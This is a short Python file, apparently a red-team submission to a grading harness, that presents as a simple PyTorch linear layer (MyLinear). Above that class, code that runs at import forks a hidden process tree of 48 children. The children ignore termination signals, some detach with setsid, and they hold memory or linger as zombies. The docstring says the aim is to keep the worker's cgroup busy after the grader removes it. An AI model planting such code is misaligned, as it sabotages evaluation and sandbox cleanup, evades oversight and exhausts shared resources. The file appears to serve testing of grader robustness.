"""Attack: leave the worker's cgroup busy when the grader removes it."""
import ctypes
import os
import signal
import time

import torch
from torch import Tensor, nn

TOKEN = b"__REDTEAM_TOKEN__"
libc = ctypes.CDLL(None)

def child(index):
    try:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        if index % 2:
            try:
                os.setsid()
            except OSError:
                pass  # refused (seccomp)
        memory = bytearray(8 << 20)
        for page in range(0, len(memory), 4096):
            memory[page] = 1
        if index % 2:
            time.sleep(3600)
    finally:
        os._exit(0)  # even-numbered ones at once: zombies, nobody waits for them


if os.fork() == 0:
    try:
        libc.prctl(15, TOKEN, 0, 0, 0)
        for index in range(48):
            if os.fork() == 0:
                child(index)
        time.sleep(3600)
    finally:
        os._exit(0)
time.sleep(0.5)


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
